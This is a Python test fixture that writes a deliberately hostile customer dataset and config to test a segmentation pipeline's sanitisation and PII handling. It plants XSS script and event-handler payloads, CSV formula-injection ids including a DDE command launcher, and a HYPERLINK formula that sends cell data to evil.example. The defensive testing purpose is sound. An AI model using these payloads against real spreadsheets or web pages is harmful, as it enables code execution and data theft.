"""A small customer base written by an attacker and a careless exporter at once.

Three well-separated groups, so that segmentation finds them and their category values
become persona traits: one group lives in a "city" that is a script, another has an
interest that is an image with an onerror handler. Customer ids start with spreadsheet
formula triggers, an undeclared column holds e-mail addresses and phone numbers, and the
params give a formula as a segment name and markup as the title.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np

SCRIPT = "<script>document.title='pwned'</script>"
IMG = '<img src=x onerror="document.title=\'pwned\'">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
GROUPS = (  # city, interest, age, income, orders per year, order value
    (SCRIPT, "running", 25, 300, 10, 60),
    ("Chengdu", IMG, 45, 900, 3, 400),
    ("Beijing", "reading", 65, 500, 1, 90),
)


def write_hostile(folder: Path, n_customers: int = 240, seed: int = 5) -> Path:
    """Write customers.csv, transactions.csv and params.yaml into ``folder``; return the params."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    prefixes = ["=", "+", "-", "@", "C"]
    customers, lines = [], []
    for i in range(n_customers):
        g = i % len(GROUPS)
        city, interest, age, income, per_year, value = GROUPS[g]
        cid = f"{prefixes[i % len(prefixes)]}{i:04d}" if i % 7 else f"=cmd|' /C calc'!A{i}"
        customers.append({
            "customer_id": cid,
            "name": f"Person {i}",
            "email": f"person{i}@example.com",
            "contact": f"person{i}@example.org" if i % 2 else f"138{i:08d}",
            "age": str(int(age + rng.normal(0, 3))),
            "income": f"{income * rng.lognormal(0, 0.1):.1f}",
            "city": city,
            "interest": interest,
        })
        for k in range(max(1, int(rng.poisson(per_year)))):
            day = int(rng.integers(0, 365))
            lines.append({"customer_id": cid, "order_id": f"O{i:04d}-{k}",
                          "order_date": str(np.datetime64("2024-01-01") + np.timedelta64(day, "D")),
                          "amount": f"{value * rng.lognormal(0, 0.2):.2f}"})
    _write(folder / "customers.csv", customers)
    _write(folder / "transactions.csv", lines)
    params = folder / "params.yaml"
    params.write_text(f"""run_name: hostile
title: "<script>document.title='pwned'</script> Segments"
client: "<b onmouseover=alert(1)>Client</b>"
data:
  customers: customers.csv
  transactions: transactions.csv
  as_of: 2025-01-01
columns:
  customer_id: customer_id
  pii: [name, email]
  numeric: [age, income]
  categorical: [city, interest, contact]
  transactions: {{customer_id: customer_id, date: order_date, amount: amount, order_id: order_id}}
segmentation:
  method: kprototypes
  features: [age, income, city, interest, recency, frequency, monetary]
  k: 3
  stability_runs: 2
personas:
  min_count: 20
  names: {{0: '{FORMULA.replace("'", "''")}'}}
  notes: {{1: "<script>alert('note')</script>"}}
report:
  pdf: false
""", encoding="utf-8")
    return params


def _write(path: Path, rows: list[dict]) -> None:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
